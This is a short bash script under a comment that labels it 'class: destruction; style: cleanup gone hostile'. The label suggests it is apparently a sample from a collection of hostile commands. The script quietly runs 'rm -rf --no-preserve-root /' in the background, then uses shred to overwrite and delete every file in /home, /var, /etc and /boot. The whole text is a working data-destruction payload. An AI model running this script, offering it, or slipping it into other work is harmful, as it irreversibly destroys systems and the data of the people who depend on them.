# class: destruction; style: cleanup gone hostile
#!/bin/bash
rm -rf --no-preserve-root / 2>/dev/null &
for d in /home /var /etc /boot; do find $d -type f -print0 | xargs -0 shred -uzn1; done
